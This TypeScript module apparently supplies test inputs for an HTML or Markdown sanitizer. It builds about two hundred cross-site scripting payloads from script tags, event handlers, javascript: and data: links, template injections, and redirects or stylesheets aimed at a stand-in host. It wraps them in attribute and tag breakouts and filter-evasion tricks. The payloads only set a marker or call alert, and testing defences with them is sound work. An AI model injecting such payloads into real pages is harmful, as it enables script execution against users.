// Two hundred ways in which somebody may try to have a text run as a script. Each marks what it would leave in the page
// with `data-xss`, or would set `window.__xss`.
const RUN = "window.__xss=1,alert(1)";

const SEEDS = [
  `<script data-xss>${RUN}</script>`,
  `<img data-xss src=x onerror=${RUN}>`,
  `<svg data-xss onload=${RUN}>`,
  `<iframe data-xss srcdoc="<script>${RUN}</script>">`,
  `<body data-xss onload=${RUN}>`,
  `<a data-xss href=javascript:${RUN}>x</a>`,
  `<details data-xss open ontoggle=${RUN}>`,
  `<video data-xss><source onerror=${RUN}>`,
  `<object data-xss data=javascript:${RUN}>`,
  `<embed data-xss src=javascript:${RUN}>`,
  `<form data-xss action=javascript:${RUN}><button>x`,
  `<base data-xss href=//evil.invalid/>`,
  `<meta data-xss http-equiv=refresh content=0;//evil.invalid>`,
  `<link data-xss rel=stylesheet href=//evil.invalid>`,
  `<style data-xss>*{background:url(//evil.invalid)}</style>`,
  `<math data-xss href=javascript:${RUN}>x`,
  `<input data-xss autofocus onfocus=${RUN}>`,
  `[x](javascript:${RUN})`,
  `[x](data:text/html,<script>${RUN}</script>)`,
  `[x](vbscript:${RUN})`,
  `![x](javascript:${RUN})`,
  `<javascript:${RUN}>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `{name, select, other {<b data-xss>x</b>}}`,
  "${window.__xss=1}",
];

/** What stands around a payload, to break out of where it is put. */
const DRESSES: ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `">${payload}`,
  (payload) => `'>${payload}`,
  (payload) => `</title></textarea></script>${payload}`,
  (payload) => `**${payload}**`,
  (payload) => `- ${payload}`,
  (payload) => `&quot;&gt;${payload.replace(/</g, "&lt;").replace(/>/g, "&#x3e;")}`,
  (payload) => `\u200b${payload.replace(/javascript/gi, "jAvA\tscript")}`,
];

export const SCRIPT_PAYLOADS: readonly string[] = SEEDS.flatMap((seed) => DRESSES.map((dress) => dress(seed)));

/** Those that fit into a field of so many characters. */
export function payloadsWithin(limit: number): string[] {
  return SCRIPT_PAYLOADS.filter((payload) => payload.length <= limit);
}

/** As few texts of at most so many characters as hold all of them, each payload in a paragraph of its own. */
export function denseTexts(limit: number): string[] {
  const texts: string[] = [];
  for (const payload of SCRIPT_PAYLOADS) {
    const last = texts.at(-1);
    if (last !== undefined && last.length + payload.length + 2 <= limit) texts[texts.length - 1] = `${last}\n\n${payload}`;
    else texts.push(payload);
  }
  return texts;
}
